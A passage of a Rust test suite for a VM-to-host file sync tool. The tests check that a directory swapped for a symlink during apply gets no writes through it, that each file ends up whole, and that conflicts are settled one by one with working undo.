    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    flip.join().expect("flipper");
    g.canary_intact();
    // Whatever the interleaving, what is applied is the plain file (or nothing).
    let f = std::fs::symlink_metadata(g.host().join("f"));
    assert!(f.is_err() || std::fs::read_to_string(g.host().join("f")).expect("read") == "plain\n", "{outcomes:?}");
}

#[test]
fn k4_host_directory_swapped_for_a_symlink_mid_apply_writes_nothing_through_it() {
    let files: Vec<(String, String)> = (0..400).map(|i| (format!("src/f{i:03}"), format!("{i}\n"))).collect();
    let refs: Vec<(&str, &str)> = files.iter().map(|(p, c)| (p.as_str(), c.as_str())).collect();
    let g = Gate::new(&refs);
    for (p, _) in &files {
        g.u(p, "changed by the VM\n");
    }
    let victim = g.home().join("outside/victim");
    std::fs::create_dir_all(&victim).expect("mkdir");
    let mut codes = Vec::new();
    for _ in 0..3 {
        // The checks see a plain directory; the swapping starts while the preview is read.
        let Some(t) = g.terminal(false) else { return };
        t.wait_for("Apply to");
        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        let target = victim.clone();
        let flip = flipper(
            g.host(),
            stop.clone(),
            |h| {
                let _ = std::fs::remove_file(h.join("src"));
                let _ = std::fs::rename(h.join("src.away"), h.join("src"));
            },
            move |h| {
                if std::fs::rename(h.join("src"), h.join("src.away")).is_ok() {
                    let _ = std::os::unix::fs::symlink(&target, h.join("src"));
                }
            },
        );
        t.key("Enter");
        codes.push(t.exit_code());
        stop.store(true, std::sync::atomic::Ordering::Relaxed);
        flip.join().expect("flipper");
    }
    assert!(codes.iter().all(|c| matches!(c, 0 | 1 | 3)), "{codes:?}");
    assert_eq!(std::fs::read_dir(&victim).expect("victim").count(), 0, "written through the symlink: {codes:?}");
    g.canary_intact();
    // Every file is old or new, never anything else.
    for (p, c) in &files {
        let now = std::fs::read_to_string(g.host().join(p)).expect("read");
        assert!(now == *c || now == "changed by the VM\n", "{p}: {now:?}");
    }
}

#[test]
fn terminal_conflicts_are_settled_one_by_one() {
    let conflicted = || {
        let g = Gate::new(&[("a", "A"), ("b", "B")]);
        g.h("a", "edited on the host");
        g.u("a", "changed in the VM").u("b", "B2");
        g
    };
    // Keep the host's version (first choice), take the VM's (second) or stop (third).
    let settle = |g: &Gate, downs: usize| {
        let t = g.terminal(false)?;
        t.wait_for("Conflict: a:");
        for _ in 0..downs {
            t.key("Down");
        }
        t.key("Enter");
        if downs < 2 {
            t.wait_for("Apply to");
            t.key("Enter");
        }
        Some(t.exit_code())
    };
    let g = conflicted();
    let Some(code) = settle(&g, 0) else { return };
    assert_eq!(code, 0);
    assert_eq!(g.tree(), lines(&["a 644 edited on the host", "b 644 B2"]), "the other changes still go through");

    let g = conflicted();
    assert_eq!(settle(&g, 1), Some(0));
    assert_eq!(g.tree(), lines(&["a 644 changed in the VM", "b 644 B2"]));
    let undo = g.run(&["--profile", "t", "sync", "--undo", "--to", "ws"]);
    assert_eq!(undo.code, 0, "{}", undo.all());
    assert_eq!(g.tree(), lines(&["a 644 edited on the host", "b 644 B"]), "undo gives the host's edit back");

    let g = conflicted();
    assert_eq!(settle(&g, 2), Some(3));
    assert_eq!(g.tree(), lines(&["a 644 edited on the host", "b 644 B"]), "nothing written");
}
